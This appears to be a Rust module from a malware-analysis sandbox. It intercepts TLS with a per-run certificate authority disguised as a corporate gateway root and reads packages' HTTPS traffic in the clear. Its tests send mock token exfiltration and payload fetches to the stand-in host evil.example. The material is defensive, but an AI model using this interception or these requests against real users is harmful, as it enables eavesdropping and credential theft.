//! HTTPS read in the clear: a certificate authority made for one run, and
//! TLS terminated with certificates it signs for whatever name the client
//! asked for.
//!
//! A package that posts stolen tokens over HTTPS shows only a server name
//! to a sink that cannot decrypt; the URL, headers and body are what say
//! what it took. The sandbox trusts [`RunCa`]'s certificate (its path goes
//! into `SSL_CERT_FILE`, `NODE_EXTRA_CA_CERTS` and the like), [`accept`]
//! answers a ClientHello with a leaf certificate for the SNI name (or for
//! the address connected to, when there is no SNI), and [`TlsStream`]
//! carries the plaintext. A client that pins its own roots fails the
//! handshake; the name it asked for is still reported.
//!
//! rustls with the `ring` provider does the TLS (1.2 and 1.3), rcgen the
//! certificates (ECDSA P-256). The provider is passed explicitly, so
//! nothing here depends on a process-wide default. The CA's private key
//! lives in memory only, for the run.

use std::collections::HashMap;
use std::fmt;
use std::io::{self, Cursor, ErrorKind, Read, Write};
use std::net::{IpAddr, TcpStream};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant, SystemTime};

use anyhow::Context as _;
use rcgen::{
    BasicConstraints, CertificateParams, DistinguishedName, DnType, DnValue, ExtendedKeyUsagePurpose, IsCa, Issuer,
    KeyPair, KeyUsagePurpose, SanType, SerialNumber,
};
use rustls::crypto::CryptoProvider;
use rustls::pki_types::{PrivateKeyDer, PrivatePkcs8KeyDer};
use rustls::server::{Acceptor, ServerConfig, ServerConnection};
use rustls::sign::{CertifiedKey, SigningKey, SingleCertAndKey};

use super::tls::tls_sni;
use super::{is_timeout, lock};

const DAY: Duration = Duration::from_secs(86_400);
/// Validity of the CA: long enough for any run, short enough to look like
/// a managed root that is rotated.
const CA_VALIDITY: Duration = Duration::from_secs(2 * 365 * 86_400);
/// Validity of a leaf, under the 398 days some clients insist on.
const LEAF_VALIDITY: Duration = Duration::from_secs(365 * 86_400);
/// Leaf certificates kept; a client that asks for ever new names gets
/// freshly signed ones past this, without growing the cache.
const MAX_CACHED_LEAVES: usize = 4096;
/// The only application protocol served: h2-capable clients fall back.
const HTTP1: &[u8] = b"http/1.1";

/// What a leaf certificate is for.
#[derive(Clone, PartialEq, Eq, Hash, Debug)]
enum LeafName {
    Dns(String),
    Ip(IpAddr),
}

/// The certificate authority of one run: a fresh key, a self-signed root
/// that looks like a corporate TLS-inspection proxy's, and the leaf
/// certificates signed so far.
///
/// Installed malware may look at the issuer of the certificates it gets;
/// a root named after the tracer would give the sandbox away, so the
/// subject is an ordinary one with a suffix that differs per run.
pub struct RunCa {
    provider: Arc<CryptoProvider>,
    issuer: Issuer<'static, KeyPair>,
    cert_pem: String,
    subject: String,
    /// One key for every leaf of the run: generating a key per name would
    /// cost more than signing, and nothing outside the run sees two leaves.
    leaf_key: KeyPair,
    leaf_signer: Arc<dyn SigningKey>,
    leaves: Mutex<HashMap<LeafName, Arc<CertifiedKey>>>,
}

impl fmt::Debug for RunCa {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        // The keys stay out of logs.
        f.debug_struct("RunCa").field("subject", &self.subject).finish_non_exhaustive()
    }
}

impl RunCa {
    /// A fresh CA for one run: a new key, self-signed, `CA:TRUE`, allowed
    /// to sign certificates, valid from yesterday (clocks differ) for about
    /// two years, with a random serial and a subject of its own.
    pub fn generate() -> anyhow::Result<RunCa> {
        let provider = Arc::new(rustls::crypto::ring::default_provider());
        let suffix = u16::from_be_bytes(random_bytes(&provider)?);
        let mut subject = DistinguishedName::new();
        subject.push(DnType::CountryName, DnValue::PrintableString("US".try_into()?));
        subject.push(DnType::OrganizationName, "Corporate IT Services");
        subject.push(DnType::OrganizationalUnitName, "Network Security");
        let common_name = format!("Corporate Web Gateway Root CA {suffix:04X}");
        subject.push(DnType::CommonName, common_name.as_str());

        let mut params = CertificateParams::default();
        params.distinguished_name = subject;
        params.is_ca = IsCa::Ca(BasicConstraints::Unconstrained);
        params.key_usages =
            vec![KeyUsagePurpose::KeyCertSign, KeyUsagePurpose::CrlSign, KeyUsagePurpose::DigitalSignature];
        params.serial_number = Some(serial(&provider)?);
        let now = SystemTime::now();
        params.not_before = (now - DAY).into();
        params.not_after = (now + CA_VALIDITY).into();
        let key = KeyPair::generate().context("failed to generate the run CA key")?;
        let cert = params.self_signed(&key).context("failed to sign the run CA certificate")?;

        let leaf_key = KeyPair::generate().context("failed to generate the leaf key")?;
        let leaf_der = PrivateKeyDer::Pkcs8(PrivatePkcs8KeyDer::from(leaf_key.serialize_der()));
        let leaf_signer = provider.key_provider.load_private_key(leaf_der).context("failed to load the leaf key")?;
        Ok(RunCa {
            cert_pem: cert.pem(),
            issuer: Issuer::new(params, key),
            provider,
            subject: common_name,
            leaf_key,
            leaf_signer,
            leaves: Mutex::default(),
        })
    }

    /// The CA certificate, PEM: what the sandbox trusts.
    pub fn cert_pem(&self) -> String {
        self.cert_pem.clone()
    }

    /// The leaf certificate and key for `name`, signed now or taken from
    /// the cache.
    fn leaf(&self, name: &LeafName) -> anyhow::Result<Arc<CertifiedKey>> {
        if let Some(leaf) = lock(&self.leaves).get(name) {
            return Ok(Arc::clone(leaf));
        }
        let mut params = CertificateParams::default();
        let mut subject = DistinguishedName::new();
        let (san, common_name) = match name {
            LeafName::Dns(dns) => (SanType::DnsName(dns.clone().try_into()?), dns.clone()),
            LeafName::Ip(ip) => (SanType::IpAddress(*ip), ip.to_string()),
        };
        // Clients match the SAN; the CN is for people reading the
        // certificate, and X.509 limits it to 64 characters.
        if common_name.len() <= 64 {
            subject.push(DnType::CommonName, common_name);
        }
        params.distinguished_name = subject;
        params.subject_alt_names = vec![san];
        params.key_usages = vec![KeyUsagePurpose::DigitalSignature];
        params.extended_key_usages = vec![ExtendedKeyUsagePurpose::ServerAuth];
        // OpenSSL's strict mode (Python 3.13's default) wants the AKI.
        params.use_authority_key_identifier_extension = true;
        // rcgen's default serial is a hash of the public key, which every
        // leaf shares; an issuer must not reuse a serial.
        params.serial_number = Some(serial(&self.provider)?);
        let now = SystemTime::now();
        params.not_before = (now - DAY).into();
        params.not_after = (now + LEAF_VALIDITY).into();
        let cert = params.signed_by(&self.leaf_key, &self.issuer)?;
        let leaf = Arc::new(CertifiedKey::new(vec![cert.der().clone()], Arc::clone(&self.leaf_signer)));
        let mut leaves = lock(&self.leaves);
        if leaves.len() < MAX_CACHED_LEAVES {
            leaves.insert(name.clone(), Arc::clone(&leaf));
        }
        Ok(leaf)
    }

    /// A server configuration for one connection. ALPN offers `http/1.1`
    /// when the client offered it; a client that offered only other
    /// protocols gets no ALPN answer rather than rustls' fatal
    /// `no_application_protocol`, and decides itself whether to go on.
    fn server_config(&self, leaf: Arc<CertifiedKey>, alpn: bool) -> anyhow::Result<Arc<ServerConfig>> {
        let mut config = ServerConfig::builder_with_provider(Arc::clone(&self.provider))
            .with_protocol_versions(&[&rustls::version::TLS13, &rustls::version::TLS12])?
            .with_no_client_auth()
            .with_cert_resolver(Arc::new(SingleCertAndKey::from(leaf)));
        if alpn {
            config.alpn_protocols = vec![HTTP1.to_vec()];
        }
        // Each connection has a configuration of its own, so a ticket
        // could never be redeemed.
        config.send_tls13_tickets = 0;
        Ok(Arc::new(config))
    }
}

fn random_bytes<const N: usize>(provider: &CryptoProvider) -> anyhow::Result<[u8; N]> {
    let mut bytes = [0u8; N];
    provider.secure_random.fill(&mut bytes).map_err(|_| anyhow::anyhow!("failed to get random bytes"))?;
    Ok(bytes)
}

/// A positive 16-byte serial (RFC 5280 4.1.2.2: at most 20 bytes, and
/// positive), random as CAs make them.
fn serial(provider: &CryptoProvider) -> anyhow::Result<SerialNumber> {
    let mut bytes: [u8; 16] = random_bytes(provider)?;
    bytes[0] = (bytes[0] & 0x7f) | 0x40;
    Ok(SerialNumber::from_slice(&bytes))
}

/// The socket, with the bytes the caller already read from it in front.
struct Transport {
    prefix: Cursor<Vec<u8>>,
    sock: TcpStream,
}

impl Read for Transport {
    fn read(&mut self, buf: &mut [u8]) -> io::Result<usize> {
        let n = self.prefix.read(buf)?;
        if n > 0 || buf.is_empty() {
            return Ok(n);
        }
        self.sock.read(buf)
    }
}

impl Write for Transport {
    fn write(&mut self, buf: &[u8]) -> io::Result<usize> {
        self.sock.write(buf)
    }

    fn flush(&mut self) -> io::Result<()> {
        self.sock.flush()
    }
}

/// A TLS connection after its handshake: [`Read`] and [`Write`] carry the
/// plaintext. A read timeout of the socket shows as
/// [`ErrorKind::WouldBlock`] or [`ErrorKind::TimedOut`] (no data yet), the
/// client's close, with or without `close_notify`, as `Ok(0)`. Dropping it
/// sends `close_notify` (see [`TlsStream::finish`]).
pub(super) struct TlsStream {
    /// Boxed: a connection is over a kilobyte, and [`Accepted`] moves it.
    conn: Box<ServerConnection>,
    io: Transport,
    sni: Option<String>,
    finished: bool,
}

impl TlsStream {
    /// The server name the client asked for (lower-cased).
    pub(super) fn sni(&self) -> Option<String> {
        self.sni.clone()
    }

    /// Sends `close_notify`, best effort: the client may be gone. Once;
    /// later calls do nothing.
    pub(super) fn finish(&mut self) {
        if self.finished {
            return;
        }
        self.finished = true;
        self.conn.send_close_notify();
        let _ = self.flush();
    }

    /// Writes out the TLS records rustls has queued.
    fn write_pending(&mut self) -> io::Result<()> {
        while self.conn.wants_write() {
            if self.conn.write_tls(&mut self.io)? == 0 {
                return Err(ErrorKind::WriteZero.into());
            }
        }
        Ok(())
    }
}

impl Read for TlsStream {
    fn read(&mut self, buf: &mut [u8]) -> io::Result<usize> {
        loop {
            match self.conn.reader().read(buf) {
                Ok(n) => return Ok(n),
                // The client closed without `close_notify`: for a sink
                // that is just the end (nothing here relies on the length
                // of what it read).
                Err(e) if e.kind() == ErrorKind::UnexpectedEof => return Ok(0),
                Err(e) if e.kind() == ErrorKind::WouldBlock => {}
                Err(e) => return Err(e),
            }
            // Key updates and the like want an answer before more reads.
            self.write_pending()?;
            let eof = self.conn.read_tls(&mut self.io)? == 0;
            if let Err(e) = self.conn.process_new_packets() {
                let _ = self.write_pending(); // the alert
                return Err(io::Error::new(ErrorKind::InvalidData, e));
            }
            if eof {
                // rustls reports the close on the next read; should it
                // not, the end is still the end.
                return match self.conn.reader().read(buf) {
                    Err(e) if e.kind() == ErrorKind::WouldBlock || e.kind() == ErrorKind::UnexpectedEof => Ok(0),
                    other => other,
                };
            }
        }
    }
}

impl Write for TlsStream {
    /// Takes plaintext and sends what it can. A write timeout after the
    /// plaintext was taken is not an error here: the records stay queued
    /// for the next write or [`Write::flush`], so nothing is sent twice.
    fn write(&mut self, buf: &[u8]) -> io::Result<usize> {
        self.write_pending()?;
        let n = self.conn.writer().write(buf)?;
        match self.write_pending() {
            Err(e) if !is_timeout(&e) => Err(e),
            _ => Ok(n),
        }
    }

    fn flush(&mut self) -> io::Result<()> {
        self.conn.writer().flush()?;
        self.write_pending()?;
        self.io.flush()
    }
}

impl Drop for TlsStream {
    fn drop(&mut self) {
        self.finish();
    }
}

/// Result of terminating TLS on one accepted connection.
pub(super) enum Accepted {
    Tls(TlsStream),
    /// No TLS session: the handshake failed (the client does not trust the
    /// run CA, spoke something else, went silent or away). `sni` is the
    /// name its ClientHello asked for, if it got that far.
    Failed {
        sni: Option<String>,
        error: String,
    },
}

impl fmt::Debug for Accepted {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Accepted::Tls(stream) => f.debug_struct("Tls").field("sni", &stream.sni).finish_non_exhaustive(),
            Accepted::Failed { sni, error } => {
                f.debug_struct("Failed").field("sni", sni).field("error", error).finish()
            }
        }
    }
}

/// Terminates TLS on `sock`.
///
/// `prefix`: the bytes the caller already read from `sock` (all or part of
/// the ClientHello, read to recognise TLS). `dest`: the address the client
/// connected to; the certificate is for the SNI name, or for `dest` (an IP
/// SAN) when the ClientHello has none. `sock` has a read timeout; reads
/// that time out are retried until `deadline` or `stopping()`, so a silent
/// client cannot hold the thread.
pub(super) fn accept(
    sock: TcpStream,
    prefix: Vec<u8>,
    ca: &RunCa,
    dest: IpAddr,
    deadline: Instant,
    stopping: &dyn Fn() -> bool,
) -> Accepted {
    let expired = || Instant::now() >= deadline || stopping();
    // rustls needs the whole ClientHello for its SNI; a hello it rejects
    // may still have one the sink's own parser finds.
    let fallback_sni = tls_sni(&prefix);
    let mut io = Transport { prefix: Cursor::new(prefix), sock };
    let mut acceptor = Acceptor::default();
    let accepted = loop {
        match acceptor.accept() {
            Ok(Some(accepted)) => break accepted,
            Ok(None) => {}
            Err((e, mut alert)) => {
                let _ = alert.write_all(&mut io);
                return Accepted::Failed { sni: fallback_sni, error: format!("bad ClientHello: {e}") };
            }
        }
        let failure = match acceptor.read_tls(&mut io) {
            Ok(0) => "closed before the ClientHello".to_string(),
            Ok(_) => continue,
            Err(e) if is_timeout(&e) && !expired() => continue,
            Err(e) if is_timeout(&e) => "timed out waiting for the ClientHello".to_string(),
            Err(e) => format!("failed to read the ClientHello: {e}"),
        };
        return Accepted::Failed { sni: fallback_sni, error: failure };
    };

    let hello = accepted.client_hello();
    let sni = hello.server_name().map(str::to_ascii_lowercase);
    let alpn = hello.alpn().is_none_or(|mut offered| offered.any(|p| p == HTTP1));
    let name = match &sni {
        Some(name) => LeafName::Dns(name.clone()),
        None => LeafName::Ip(dest.to_canonical()),
    };
    let config = match ca.leaf(&name).and_then(|leaf| ca.server_config(leaf, alpn)) {
        Ok(config) => config,
        Err(e) => return Accepted::Failed { sni, error: format!("failed to make a certificate for {name:?}: {e:#}") },
    };
    let mut conn = match accepted.into_connection(config) {
        Ok(conn) => conn,
        Err((e, mut alert)) => {
            let _ = alert.write_all(&mut io);
            return Accepted::Failed { sni, error: e.to_string() };
        }
    };
    match handshake(&mut conn, &mut io, &expired) {
        Ok(()) => Accepted::Tls(TlsStream { conn: Box::new(conn), io, sni, finished: false }),
        Err(error) => Accepted::Failed { sni, error },
    }
}

/// Drives the handshake after the ClientHello to its end. A client that
/// rejects the certificate says so with an alert (or just closes) before
/// its `Finished`.
fn handshake(conn: &mut ServerConnection, io: &mut Transport, expired: &dyn Fn() -> bool) -> Result<(), String> {
    loop {
        while conn.wants_write() {
            match conn.write_tls(io) {
                Ok(_) => {}
                Err(e) if is_timeout(&e) && !expired() => {}
                Err(e) => return Err(format!("failed to send the handshake: {e}")),
            }
        }
        if !conn.is_handshaking() {
            return Ok(());
        }
        match conn.read_tls(io) {
            Ok(0) => return Err("closed during the handshake".into()),
            Ok(_) => {
                if let Err(e) = conn.process_new_packets() {
                    // Our alert, when the failure is on this side.
                    while conn.wants_write() && conn.write_tls(io).is_ok_and(|n| n > 0) {}
                    return Err(e.to_string());
                }
            }
            Err(e) if is_timeout(&e) && !expired() => {}
            Err(e) if is_timeout(&e) => return Err("timed out during the handshake".into()),
            Err(e) => return Err(format!("failed to read the handshake: {e}")),
        }
    }
}

#[cfg(test)]
mod tests {
    use std::net::{Ipv4Addr, TcpListener};
    use std::process::Command;
    use std::thread::{self, JoinHandle};

    use rustls::pki_types::pem::PemObject;
    use rustls::pki_types::{CertificateDer, ServerName};
    use rustls::{ClientConfig, ClientConnection, RootCertStore, StreamOwned};

    use super::super::answer::http_answer;
    use super::super::http::{http_request_complete, parse_http};
    use super::super::testutil::client_hello;
    use super::super::tls::tls_handshake;
    use super::*;

    const IO_TIMEOUT: Duration = Duration::from_secs(5);
    const HANDSHAKE_LIMIT: Duration = Duration::from_secs(3);
    const MAX_REQUEST: usize = 64 * 1024;

    /// What the server side of a test saw.
    #[derive(Debug)]
    enum Seen {
        /// The SNI, the ALPN protocol and the plaintext request.
        Request {
            sni: Option<String>,
            alpn: Option<Vec<u8>>,
            request: Vec<u8>,
        },
        Failed {
            sni: Option<String>,
            error: String,
        },
    }

    /// Serves one connection on 127.0.0.1 as the TCP sink will: reads the
    /// first bytes (the ClientHello), hands them to [`accept`] with the
    /// socket, reads the request in the clear and answers it.
    fn serve_one(ca: Arc<RunCa>) -> (u16, JoinHandle<Seen>) {
        let listener = TcpListener::bind((Ipv4Addr::LOCALHOST, 0)).unwrap();
        let port = listener.local_addr().unwrap().port();
        let server = thread::spawn(move || {
            let (mut sock, _) = listener.accept().unwrap();
            sock.set_read_timeout(Some(Duration::from_millis(100))).unwrap();
            sock.set_write_timeout(Some(Duration::from_secs(1))).unwrap();
            let deadline = Instant::now() + HANDSHAKE_LIMIT;
            let mut prefix = Vec::new();
            let mut chunk = [0u8; 4096];
            while !tls_handshake(&prefix).is_some_and(|(_, complete)| complete) && Instant::now() < deadline {
                match sock.read(&mut chunk) {
                    Ok(0) => break,
                    Ok(n) => prefix.extend_from_slice(&chunk[..n]),
                    Err(e) if is_timeout(&e) => {}
                    Err(e) => panic!("{e}"),
                }
            }
            let dest = sock.local_addr().unwrap().ip();
            let mut stream = match accept(sock, prefix, &ca, dest, deadline, &|| false) {
                Accepted::Tls(stream) => stream,
                Accepted::Failed { sni, error } => return Seen::Failed { sni, error },
            };
            let alpn = stream.conn.alpn_protocol().map(<[u8]>::to_vec);
            let mut request = Vec::new();
            let until = Instant::now() + IO_TIMEOUT;
            while !http_request_complete(&request, MAX_REQUEST) && Instant::now() < until {
                match stream.read(&mut chunk) {
                    Ok(0) => break,
                    Ok(n) => request.extend_from_slice(&chunk[..n]),
                    Err(e) if is_timeout(&e) => {}
                    Err(e) => panic!("{e}"),
                }
            }
            if let Some(req) = parse_http(&request) {
                stream.write_all(&http_answer(&req.method, &req.target)).unwrap();
                stream.flush().unwrap();
            }
            stream.finish();
            Seen::Request { sni: stream.sni(), alpn, request }
        });
        (port, server)
    }

    fn client_config(
        trusted: &RunCa,
        alpn: &[&[u8]],
        versions: &[&'static rustls::SupportedProtocolVersion],
    ) -> Arc<ClientConfig> {
        let mut roots = RootCertStore::empty();
        // Through the PEM, as the sandbox hands the CA on.
        roots.add(CertificateDer::from_pem_slice(trusted.cert_pem().as_bytes()).unwrap()).unwrap();
        let mut config = ClientConfig::builder_with_provider(Arc::new(rustls::crypto::ring::default_provider()))
            .with_protocol_versions(versions)
            .unwrap()
            .with_root_certificates(roots)
            .with_no_client_auth();
        config.alpn_protocols = alpn.iter().map(|p| p.to_vec()).collect();
        Arc::new(config)
    }

    type Client = StreamOwned<ClientConnection, TcpStream>;

    fn connect(config: Arc<ClientConfig>, server_name: ServerName<'static>, port: u16) -> Client {
        let sock = TcpStream::connect((Ipv4Addr::LOCALHOST, port)).unwrap();
        sock.set_read_timeout(Some(IO_TIMEOUT)).unwrap();
        StreamOwned::new(ClientConnection::new(config, server_name).unwrap(), sock)
    }

    /// Sends `request` and reads the answer to its end.
    fn exchange(client: &mut Client, request: &[u8]) -> io::Result<Vec<u8>> {
        client.write_all(request)?;
        client.flush()?;
        let mut response = Vec::new();
        client.read_to_end(&mut response)?;
        Ok(response)
    }

    fn evil() -> ServerName<'static> {
        ServerName::try_from("evil.example").unwrap()
    }

    const POST: &[u8] =
        b"POST /collect HTTP/1.1\r\nHost: evil.example\r\nContent-Length: 22\r\n\r\n{\"token\":\"npm_secret\"}";

    #[test]
    fn post_over_tls_arrives_in_the_clear() {
        let ca = Arc::new(RunCa::generate().unwrap());
        let (port, server) = serve_one(Arc::clone(&ca));
        let mut client = connect(client_config(&ca, &[b"h2", b"http/1.1"], rustls::DEFAULT_VERSIONS), evil(), port);
        let response = exchange(&mut client, POST).unwrap();
        assert_eq!(client.conn.protocol_version(), Some(rustls::ProtocolVersion::TLSv1_3));
        assert_eq!(client.conn.alpn_protocol(), Some(HTTP1), "h2 is not offered back");
        assert!(response.starts_with(b"HTTP/1.1 200 OK\r\n"), "{}", String::from_utf8_lossy(&response));
        assert!(response.ends_with(b"exit 0\n"), "a path without an extension gets the shell script");
        match server.join().unwrap() {
            Seen::Request { sni, alpn, request } => {
                assert_eq!(sni.as_deref(), Some("evil.example"));
                assert_eq!(alpn.as_deref(), Some(HTTP1));
                assert_eq!(request, POST);
            }
            seen => panic!("{seen:?}"),
        }
        // The leaf was kept for the next connection to the same name.
        assert!(lock(&ca.leaves).contains_key(&LeafName::Dns("evil.example".into())));
    }

    #[test]
    fn tls12_and_clients_without_http1_alpn() {
        let ca = Arc::new(RunCa::generate().unwrap());
        let (port, server) = serve_one(Arc::clone(&ca));
        let mut client = connect(client_config(&ca, &[b"h2"], &[&rustls::version::TLS12]), evil(), port);
        let response = exchange(&mut client, b"GET /i.sh HTTP/1.1\r\nHost: evil.example\r\n\r\n").unwrap();
        assert_eq!(client.conn.protocol_version(), Some(rustls::ProtocolVersion::TLSv1_2));
        assert_eq!(client.conn.alpn_protocol(), None, "no ALPN answer instead of a fatal alert");
        assert!(response.ends_with(
            b"#!/bin/sh\n# Stand-in served by the sandbox's network sink in place of the file requested.\nexit 0\n"
        ));
        assert!(matches!(server.join().unwrap(), Seen::Request { request, .. } if request.starts_with(b"GET /i.sh ")));
    }

    #[test]
    fn no_sni_gets_a_certificate_for_the_address() {
        let ca = Arc::new(RunCa::generate().unwrap());
        let (port, server) = serve_one(Arc::clone(&ca));
        let ip = ServerName::IpAddress(IpAddr::V4(Ipv4Addr::LOCALHOST).into());
        let mut client = connect(client_config(&ca, &[], rustls::DEFAULT_VERSIONS), ip, port);
        let response = exchange(&mut client, b"GET / HTTP/1.0\r\n\r\n").unwrap();
        assert!(response.starts_with(b"HTTP/1.1 200 OK\r\n"));
        match server.join().unwrap() {
            Seen::Request { sni, request, .. } => {
                assert_eq!(sni, None);
                assert_eq!(request, b"GET / HTTP/1.0\r\n\r\n");
            }
            seen => panic!("{seen:?}"),
        }
        assert!(lock(&ca.leaves).contains_key(&LeafName::Ip(IpAddr::V4(Ipv4Addr::LOCALHOST))));
    }

    #[test]
    fn client_trusting_another_ca_fails_but_names_the_host() {
        let ca = Arc::new(RunCa::generate().unwrap());
        let other = RunCa::generate().unwrap();
        assert_ne!(ca.subject, other.subject, "a subject of its own per run (1 in 65536 to collide)");
        assert_ne!(ca.cert_pem(), other.cert_pem());
        let (port, server) = serve_one(Arc::clone(&ca));
        let mut client = connect(client_config(&other, &[], rustls::DEFAULT_VERSIONS), evil(), port);
        let error = exchange(&mut client, b"GET / HTTP/1.1\r\n\r\n").unwrap_err();
        assert!(error.to_string().contains("UnknownIssuer"), "{error}");
        match server.join().unwrap() {
            Seen::Failed { sni, error } => {
                assert_eq!(sni.as_deref(), Some("evil.example"));
                assert!(error.contains("UnknownCA") || error.contains("closed"), "{error}");
            }
            seen => panic!("{seen:?}"),
        }
    }

    #[test]
    fn silent_or_non_tls_clients_do_not_hold_the_thread() {
        let ca = RunCa::generate().unwrap();
        let listener = TcpListener::bind((Ipv4Addr::LOCALHOST, 0)).unwrap();
        let addr = listener.local_addr().unwrap();
        let (_silent, sock) = connected(&listener);
        let started = Instant::now();
        let outcome = accept(sock, Vec::new(), &ca, addr.ip(), started + Duration::from_millis(500), &|| false);
        let elapsed = started.elapsed();
        assert!(elapsed >= Duration::from_millis(500) && elapsed < Duration::from_millis(1500), "{elapsed:?}");
        assert!(
            matches!(&outcome, Accepted::Failed { sni: None, error } if error.contains("timed out")),
            "{outcome:?}"
        );

        // The stop flag ends the wait long before the deadline.
        let started = Instant::now();
        let (_silent, sock) = connected(&listener);
        let outcome = accept(sock, Vec::new(), &ca, addr.ip(), started + Duration::from_secs(30), &|| {
            started.elapsed() > Duration::from_millis(200)
        });
        assert!(started.elapsed() < Duration::from_secs(1), "{:?}", started.elapsed());
        assert!(matches!(outcome, Accepted::Failed { .. }));

        // Half a ClientHello, then silence: the name is in the half.
        let hello = client_hello();
        let (_silent, sock) = connected(&listener);
        let outcome =
            accept(sock, hello[..120].to_vec(), &ca, addr.ip(), Instant::now() + Duration::from_millis(300), &|| false);
        assert!(matches!(&outcome, Accepted::Failed { sni: Some(sni), .. } if sni == "sni.example"), "{outcome:?}");

        // Plain HTTP is not TLS.
        let (_client, sock) = connected(&listener);
        let outcome =
            accept(sock, b"GET / HTTP/1.1\r\n\r\n".to_vec(), &ca, addr.ip(), Instant::now() + HANDSHAKE_LIMIT, &|| {
                false
            });
        assert!(
            matches!(&outcome, Accepted::Failed { sni: None, error } if error.starts_with("bad ClientHello")),
            "{outcome:?}"
        );
    }

    /// A connection to `listener`: the client end, which the test keeps
    /// open and silent, and the server end with the sink's read timeout.
    fn connected(listener: &TcpListener) -> (TcpStream, TcpStream) {
        let client = TcpStream::connect(listener.local_addr().unwrap()).unwrap();
        let (sock, _) = listener.accept().unwrap();
        sock.set_read_timeout(Some(Duration::from_millis(100))).unwrap();
        (client, sock)
    }

    /// The run CA's certificate in a file, as the sandbox will hand it to
    /// the package's tools.
    fn ca_file(ca: &RunCa) -> tempfile::NamedTempFile {
        let mut file = tempfile::NamedTempFile::new().unwrap();
        file.write_all(ca.cert_pem().as_bytes()).unwrap();
        file
    }

    fn request_of(server: JoinHandle<Seen>) -> (Option<String>, String) {
        match server.join().unwrap() {
            Seen::Request { sni, request, .. } => (sni, String::from_utf8(request).unwrap()),
            seen => panic!("{seen:?}"),
        }
    }

    fn output(command: &mut Command) -> String {
        let output = command.output().unwrap_or_else(|e| panic!("failed to run {command:?}: {e}"));
        let stderr = String::from_utf8_lossy(&output.stderr);
        assert!(output.status.success(), "{command:?}: {}\n{stderr}", output.status);
        String::from_utf8_lossy(&output.stdout).into_owned()
    }

    #[test]
    fn curl_trusts_the_run_ca() {
        let ca = Arc::new(RunCa::generate().unwrap());
        let pem = ca_file(&ca);
        let (port, server) = serve_one(Arc::clone(&ca));
        let body = output(
            Command::new("curl")
                .args(["-sS", "--max-time", "5", "--cacert"])
                .arg(pem.path())
                .arg("--resolve")
                .arg(format!("evil.example:{port}:127.0.0.1"))
                .args(["-d", "k=v"])
                .arg(format!("https://evil.example:{port}/x?q=1")),
        );
        assert!(body.starts_with("#!/bin/sh\n"), "{body}");
        let (sni, request) = request_of(server);
        assert_eq!(sni.as_deref(), Some("evil.example"));
        assert!(request.starts_with("POST /x?q=1 HTTP/1.1\r\n"), "{request}");
        assert!(request.contains(&format!("\r\nHost: evil.example:{port}\r\n")), "{request}");
        assert!(request.ends_with("\r\n\r\nk=v"), "{request}");
    }

    #[test]
    fn node_trusts_the_run_ca() {
        let ca = Arc::new(RunCa::generate().unwrap());
        let pem = ca_file(&ca);
        // By name (SNI sent), then by address (Node sends no SNI for an
        // IP, and checks the IP SAN).
        for servername in ["'evil.example'", "undefined"] {
            let (port, server) = serve_one(Arc::clone(&ca));
            let script = format!(
                "require('https').get({{host: '127.0.0.1', port: {port}, path: '/n.js', servername: {servername}}}, (res) => {{\n\
                   let body = ''; res.on('data', (d) => body += d); res.on('end', () => console.log(res.statusCode, body.length));\n\
                 }}).on('error', (e) => {{ console.error(e); process.exit(1); }});"
            );
            let printed = output(Command::new("node").arg("-e").arg(script).env("NODE_EXTRA_CA_CERTS", pem.path()));
            assert!(printed.starts_with("200 "), "{printed}");
            let (sni, request) = request_of(server);
            assert_eq!(sni.as_deref(), (servername != "undefined").then_some("evil.example"));
            assert!(request.starts_with("GET /n.js HTTP/1.1\r\n"), "{request}");
        }
    }

    #[test]
    fn python_trusts_the_run_ca() {
        let ca = Arc::new(RunCa::generate().unwrap());
        let pem = ca_file(&ca);
        let (port, server) = serve_one(Arc::clone(&ca));
        // The default context reads SSL_CERT_FILE. X509 strict mode is
        // Python 3.13's default; the leaves must pass it already.
        let script = format!(
            "import socket, ssl\n\
             ctx = ssl.create_default_context()\n\
             ctx.verify_flags |= ssl.VERIFY_X509_STRICT\n\
             s = ctx.wrap_socket(socket.create_connection(('127.0.0.1', {port})), server_hostname='evil.example')\n\
             s.sendall(b'GET /p.json HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n')\n\
             data = b''\n\
             while True:\n\
             \x20   chunk = s.recv(4096)\n\
             \x20   if not chunk: break\n\
             \x20   data += chunk\n\
             print(s.version(), data.split(b'\\r\\n\\r\\n', 1)[1].decode())\n"
        );
        let printed = output(Command::new("python3").arg("-c").arg(script).env("SSL_CERT_FILE", pem.path()));
        assert_eq!(printed, "TLSv1.3 {}\n");
        let (sni, request) = request_of(server);
        assert_eq!(sni.as_deref(), Some("evil.example"));
        assert_eq!(request, "GET /p.json HTTP/1.1\r\nHost: evil.example\r\n\r\n");
    }
}
